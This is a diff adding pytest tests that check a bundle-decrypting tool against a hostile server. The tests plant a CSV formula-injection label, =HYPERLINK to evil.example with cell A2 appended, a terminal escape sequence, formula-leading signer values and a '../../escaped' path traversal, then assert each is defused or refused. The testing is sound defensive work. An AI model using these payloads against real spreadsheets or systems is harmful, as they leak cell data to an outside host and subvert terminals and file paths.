@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
+import hashlib
+import json
 import stat
 import subprocess
 import sys
@@ -422,3 +425,93 @@ def test_decrypt_runs_without_flask_or_sqlalchemy(sample_bundle, organizer_key_f
     assert (out / "declaration-sign.csv").exists()
     rows = read_csv(out / "open-letter-testimony.csv")
     assert rows[1][0] == KOREAN
+
+
+# --- a bundle rewritten by a hostile server ------------------------------------------------------------------
+
+
+def hostile_definitions() -> dict:
+    """The declaration's definition with formulas and a terminal escape sequence in its labels."""
+    definition = json.loads(json.dumps(SHIPPED["declaration"]))
+    fields = definition["forms"][0]["fields"]
+    fields[0]["label"] = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    fields[1]["label"] = "\x1b]0;owned\x07Name \uff1dcmd"
+    return {"declaration": definition}
+
+
+def all_cells(path: Path) -> list[str]:
+    return [c for row in read_csv(path) for c in row]
+
+
+def test_every_cell_that_could_run_as_a_formula_is_defused_header_included(
+    decrypt, organizer_key, organizer_key_file, tmp_path
+):
+    rec = record(1, organizer_key, "declaration", "sign", signer(" =1+1", organization="\t@SUM(A1)"))
+    path = tmp_path / "hostile.bundle"
+    bundle.write(path, [rec], created_on="2026-03-05", key_ids=[], campaigns=hostile_definitions())
+    out = tmp_path / "out"
+    run(decrypt, [path], organizer_key_file, out)
+    cells = all_cells(out / "declaration-sign.csv")
+    starts = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+    assert [c for c in cells if c.lstrip(" \n").startswith(starts)] == []
+    assert '\'=HYPERLINK("http://evil.example/?"&A2,"Click")' in cells
+    assert not any("\x1b" in c or "\x07" in c for c in cells)
+    assert "\x1b" not in (out / "summary.txt").read_text()
+
+
+def test_a_bundle_that_names_a_place_outside_the_output_folder_is_refused(
+    decrypt, organizer_key, organizer_key_file, tmp_path, capsys
+):
+    rec = record(1, organizer_key, "declaration", "sign", signer("Ada"))
+    path = tmp_path / "b.bundle"
+    write_bundle(path, [dataclasses.replace(rec, campaign="../../escaped")], organizer_key)
+    out = tmp_path / "deep" / "out"
+    code = run(decrypt, [path], organizer_key_file, out)
+    assert_refused(code, capsys, out, "campaign")
+    assert not list(tmp_path.rglob("*escaped*"))
+
+
+def test_a_header_of_the_wrong_types_is_refused_in_one_line_with_no_traceback(
+    decrypt, organizer_key_file, tmp_path, capsys
+):
+    body = (
+        json.dumps(
+            {
+                "format": "papillon-bundle",
+                "version": 1,
+                "created_on": "2026-03-05",
+                "count": 0,
+                "key_ids": 5,
+                "campaigns": [],
+            }
+        ).encode()
+        + b"\n"
+    )
+    path = tmp_path / "b.bundle"
+    path.write_bytes(body + json.dumps({"sha256": hashlib.sha256(body).hexdigest()}).encode() + b"\n")
+    out = tmp_path / "out"
+    assert_refused(run(decrypt, [path], organizer_key_file, out), capsys, out, "key_ids")
+
+
+def test_a_key_that_opens_none_of_the_records_is_refused_and_nothing_written(
+    decrypt, organizer_key_file, tmp_path, capsys
+):
+    stranger = X25519PrivateKey.generate()
+    path = write_bundle(tmp_path / "b.bundle", [record(1, stranger, "declaration", "sign", signer("Ada"))], stranger)
+    out = tmp_path / "out"
+    code = run(decrypt, [path], organizer_key_file, out)
+    assert_refused(code, capsys, out, "opens none of the 1 record(s)")
+    assert not out.exists() or list(out.iterdir()) == []
+
+
+def test_the_refusal_names_the_keys_the_records_were_sealed_to(decrypt, organizer_key_file, tmp_path, capsys):
+    stranger = X25519PrivateKey.generate()
+    path = write_bundle(tmp_path / "b.bundle", [record(1, stranger, "declaration", "sign", signer("Ada"))], stranger)
+    run(decrypt, [path], organizer_key_file, tmp_path / "out")
+    assert public(stranger).key_id in capsys.readouterr().err
+
+
+def test_an_empty_bundle_still_opens_to_an_empty_summary(decrypt, organizer_key, organizer_key_file, tmp_path):
+    path = write_bundle(tmp_path / "b.bundle", [], organizer_key)
+    assert run(decrypt, [path], organizer_key_file, tmp_path / "out") == 0
+    assert "Records opened: 0" in (tmp_path / "out" / "summary.txt").read_text()
